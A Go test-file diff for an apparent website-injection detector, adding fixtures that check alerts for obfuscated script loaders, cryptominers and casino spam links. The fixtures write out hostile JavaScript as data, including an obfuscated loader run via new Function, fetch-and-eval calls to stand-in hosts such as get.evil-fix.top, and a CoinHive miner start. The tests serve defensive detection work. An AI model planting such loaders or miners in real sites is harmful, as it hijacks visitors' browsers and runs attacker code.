@@ -79,6 +79,58 @@ func TestSkimmers(t *testing.T) {
 	}
 }
 
+// charCodes writes a text as numbers, as loaders hide where they load from.
+func charCodes(s string) string {
+	codes := make([]string, len(s))
+	for i := range len(s) {
+		codes[i] = fmt.Sprint(s[i])
+	}
+	return "String.fromCharCode(" + strings.Join(codes, ",") + ")"
+}
+
+// looked is a loader that keeps every name in halves in a table, turned until a sum is
+// right, and reads them by number, as a well-known obfuscator writes.
+const looked = `var t=['se','nd','op','en','on','load','resp','onse','Text','GET','/wp-','count.js'];(function(a,n){while(n--){a['push'](a['shift']())}})(t,24);var f=function(i){return t[i-0x1a]};
+var q=new XMLHttpRequest();q[f(0x1c)+f(0x1d)](f(0x23),f(0x24)+f(0x25),!![]);q[f(0x1e)+f(0x1f)]=function(){var g=q[f(0x20)+f(0x21)+f(0x22)];new Function(g)()};q[f(0x1a)+f(0x1b)](null)`
+
+// Loaders of the kinds that are found on hijacked sites alert, in the page and behind
+// a file of the site's own.
+func TestLoaders(t *testing.T) {
+	inline := func(code string) func(testing.TB) Look { return added("<script>" + code + "</script>") }
+	b := learned(external("https://www.planning.gov.pk/js/site.js", library("1.0"))(t), ministryLook(t, 2), ministryLook(t, 3))
+	for name, look := range map[string]func(testing.TB) Look{
+		"all names by number":        inline(looked),
+		"behind the site's own file": external("https://www.planning.gov.pk/js/site.js", library("1.0")+looked),
+		"element in numbers":         inline(`(function(){var e=document.createElement(` + charCodes("script") + `);e.src=` + charCodes("https://cdn.evil-stat.top/s.js") + `;document.head.appendChild(e)})()`),
+		"an answer becomes a script": inline(`fetch("https://get.evil-fix.top/r?n="+Date.now()).then(function(r){return r.text()}).then(function(a){var s=document.createElement("script");s.textContent=a;document.head.appendChild(s)})`),
+		"an answer is evaluated":     inline(`$.ajax({url:"https://get.evil-fix.top/r",dataType:"text"}).done(function(answer){eval(answer)})`),
+		"a miner by its name":        inline(`setTimeout(function(){new CoinHive.Anonymous("key",{throttle:0.9}).start()},60000)`),
+		"a miner by its host":        external("https://authedmine.com/lib/a.min.js", "function nothing(a){return a}"),
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := Compare(b, look(t), nil)
+			if r.Verdict != Alert || r.Findings[0].Kind != Injection || r.Findings[0].Severity.Rank() < High.Rank() {
+				t.Error(describe(r))
+			}
+		})
+	}
+}
+
+// One link is enough where the host sells what the words advertise.
+func TestOneSpamLink(t *testing.T) {
+	for fragment, want := range map[string]Verdict{
+		`<p>Write to <a href="https://premium-casino-club.example/">casino siteleri</a> for help</p>`:              Alert,
+		`<p>Getting in touch with <a href="http://203.0.113.9/">situs judi</a> is easy</p>`:                        Alert,
+		`<p>The regulator warned of an <a href="https://news.example.org/warning">online casino</a> again</p>`:     Suspicious,
+		`<p>Complain to the <a href="https://www.casinoauthority.gov.ph/">casino authority</a> of the country</p>`: Suspicious,
+		`<marquee style="position:absolute;width:0"><a href="https://seo.example/">hacklink</a></marquee>`:         Alert,
+	} {
+		if r := Compare(ministryBaseline(t), posted(fragment)(t), nil); r.Verdict != want {
+			t.Errorf("%s: %s", fragment, describe(r))
+		}
+	}
+}
+
 // What owners add to their pages is for nobody's pager: widgets and forms of known
 // and of unknown vendors, libraries in a new version or from another mirror.
 func TestOwnersScripts(t *testing.T) {
@@ -94,6 +146,9 @@ func TestOwnersScripts(t *testing.T) {
 		"form service":        {added(`<script>var f=document.getElementById("search");f.addEventListener("submit",function(e){e.preventDefault();fetch("https://formspree.io/f/abc",{method:"POST",body:new FormData(f)})})</script>`), Suspicious},
 		"suggestions":         {added(`<script>var q=document.getElementById("q");q.onkeyup=function(){fetch("https://search.example-maps.org/suggest?q="+q.value)}</script>`), Suspicious},
 		"chat of a new host":  {external("https://chat.example-talk.com/w.js", library("3")+`function open(){var f=document.createElement("iframe");f.src="https://chat.example-talk.com/box";document.body.appendChild(f)}`), Suspicious},
+		"text of a module":    {added(`<script>fetch("https://api.example-weather.org/now").then(function(r){return r.json()}).then(function(w){document.getElementById("q").textContent=w.text})</script>`), Suspicious},
+		"table by number":     {added(`<script>var m=[function(e,t,n){var r=n(1);t.a=r[n(2)]},function(e,t){t.b=1}];function n(i){return m[i]}var x=n(0);x.y=n(1);x.z=[n(2),n(3),n(4),n(5),n(6),n(7),n(8),n(9)]</script>`), Benign},
+		"signs escaped":       {added(`<script>var h="` + strings.Repeat(`\x3cb\x3ehello\x3c/b\x3e`, 30) + `";document.title=document.title</script>`), Benign},
 		"cookie consent":      {added(`<script>document.cookie="consent=1; expires=Fri, 31 Dec 2027 23:59:59 GMT; path=/";document.getElementById("q").value=""</script>`), Benign},
 		"references in texts": {added(`<script>throw new Error("see https://docs.example-lib.dev/errors for "+document.getElementById("q").value);var x=new XMLHttpRequest()</script>`), Benign},
 	} {
